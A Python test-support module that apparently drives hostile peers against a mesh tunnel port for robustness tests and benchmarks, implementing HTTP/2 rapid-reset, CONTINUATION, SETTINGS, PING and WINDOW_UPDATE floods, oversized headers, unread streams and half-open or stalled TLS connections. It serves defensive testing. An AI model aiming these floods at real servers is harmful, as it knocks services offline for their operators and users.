# SPDX-License-Identifier: Apache-2.0
"""Peers that mean harm, to a pod's port 15008: each attack throws what it can at it until it is told to stop. Used by hostile_test.py, which
asserts, and by tools/bench/hostile.py, which measures."""
import errno
import itertools
import select
import socket
import struct

import apps
from hbone import END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, Hbone, Refused, context, frame, header_block

CONTINUATION, WINDOW_UPDATE = 9, 8
PORT = 15008
INITIAL_WINDOW_SIZE = 4
# A ClientHello that promises 512 bytes and stops after the first: a record of TLS 1.0, as RFC 8446 5.1 wants it there.
BEGUN_HELLO = b"\x16\x03\x01\x02\x00\x01"
IDENTITY = "spiffe://cluster.local/ns/default/sa/hostile"


def credentials(world):
    """A certificate of the mesh's own authority: the attacker is somebody."""
    return context(world.ca, world.ca.issue(IDENTITY, "hostile"))


class Attack:
    """tls: credentials(). pod: where the attacker sits; server: the pod under attack; app: (ip, port) of an application there that sends without end. count: of
    connections where it holds them. thrown: how often it did its harm; ended: how often the tunnel ended it."""

    def __init__(self, tls, pod, server, app, count):
        self.tls, self.pod, self.server, self.app, self.count = tls, pod, server, app, count
        self.thrown = self.ended = 0
        self.stopped = False

    def stop(self):
        self.stopped = True

    def dial(self):
        return Hbone(self.pod, self.server.v4, self.tls)

    # -- floods: on one connection after the other, answers unread

    def flood(self, burst):
        """burst(peer, round): bytes to send next."""
        while not self.stopped:
            try:
                peer = self.dial()
            except (OSError, Refused):
                continue
            peer.socket.settimeout(5)
            try:
                for number in itertools.count():
                    if self.stopped:
                        break
                    peer.socket.sendall(burst(peer, number))
                    self.thrown += 1
            except OSError:
                self.ended += 1
            finally:
                peer.close()

    def rapid_reset(self):
        def burst(peer, number):
            out = []
            for i in range(100):
                stream = 1 + 2 * (100 * number + i)
                block = header_block([(":method", "CONNECT"), (":authority", f"{self.app[0]}:{self.app[1]}")])
                out += [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, struct.pack(">I", 8))]
            return b"".join(out)
        self.flood(burst)

    def continuation(self):
        def burst(peer, number):
            block = header_block([("x-filler", "y" * 100)])
            first = frame(HEADERS, 0, 1, header_block([(":method", "CONNECT")])) if number == 0 else b""
            return first + frame(CONTINUATION, 0, 1, block) * 16
        self.flood(burst)

    def settings(self):
        body = struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)
        self.flood(lambda peer, number: frame(SETTINGS, 0, 0, body) * 500)

    def ping(self):
        self.flood(lambda peer, number: frame(PING, 0, 0, b"hostile!") * 500)

    def window_update(self):
        self.flood(lambda peer, number: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500)

    def oversized_headers(self):
        """Requests whose headers are as large as a frame may be, each of many fields."""
        def burst(peer, number):
            fields = [(":method", "CONNECT"), (":authority", "x:1")] + [(f"x-{i}", "y" * 120) for i in range(120)]
            return frame(HEADERS, END_HEADERS, 1 + 2 * number, header_block(fields)[:16000])
        self.flood(burst)

    # -- held: many at once

    def never_read(self):
        """Streams to an application that sends without end, with all the credit there is, and not a byte read."""
        held = []
        try:
            for _ in range(self.count):
                if self.stopped:
                    break
                peer = self.dial()
                held.append(peer)
                most = struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1)
                peer.socket.sendall(frame(SETTINGS, 0, 0, most) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536)))
                for _ in range(10):
                    if peer.request(f"{self.app[0]}:{self.app[1]}")[0] == 200:
                        self.thrown += 1
            self._wait(held)
        finally:
            for peer in held:
                peer.close()

    def slow_handshakes(self):
        self._half_open(BEGUN_HELLO)

    def half_open(self):
        self._half_open(b"")

    def _half_open(self, first):
        """TCP connections that go no further, as many as are wanted, again when one is ended. IPv4 and IPv6, for a port is used once."""
        poll, held, begun = select.epoll(), {}, 0
        try:
            while not self.stopped:
                while len(held) < self.count and begun - self.thrown < 1000:
                    made = self.pod.socket(socket.AF_INET6 if begun % 2 else socket.AF_INET)
                    made.setblocking(False)
                    begun += 1
                    wrong = made.connect_ex((self.server.v6 if made.family == socket.AF_INET6 else self.server.v4, PORT))
                    if wrong not in (0, errno.EINPROGRESS):
                        made.close()
                        break
                    held[made.fileno()] = made
                    poll.register(made, select.EPOLLOUT | select.EPOLLRDHUP | select.EPOLLONESHOT)
                for fd, events in poll.poll(0.2, 1000):
                    made = held[fd]
                    if events & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLRDHUP):
                        self.thrown += made.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) not in (errno.ETIMEDOUT, errno.ECONNREFUSED)
                        self.ended += 1
                        poll.unregister(fd)
                        held.pop(fd).close()
                        continue
                    self.thrown += 1
                    if first:
                        try:
                            made.send(first)
                        except OSError:
                            pass
                    poll.modify(fd, select.EPOLLRDHUP | select.EPOLLONESHOT)
        finally:
            poll.close()
            for made in held.values():
                made.close()

    def _wait(self, held):
        poll = select.poll()
        for peer in held:
            poll.register(peer.socket, select.POLLHUP | select.POLLERR)
        while not self.stopped:
            self.ended += len(poll.poll(200)) > 0


ATTACKS = ("slow_handshakes", "half_open", "rapid_reset", "continuation", "settings", "ping", "window_update", "oversized_headers", "never_read")
FLOODS = ATTACKS[2:8]


def endless(connection):
    """An application that sends without end."""
    block = b"z" * (1 << 16)
    while True:
        connection.sendall(block)


def start(attack, name):
    return apps.Thread(getattr(attack, name))
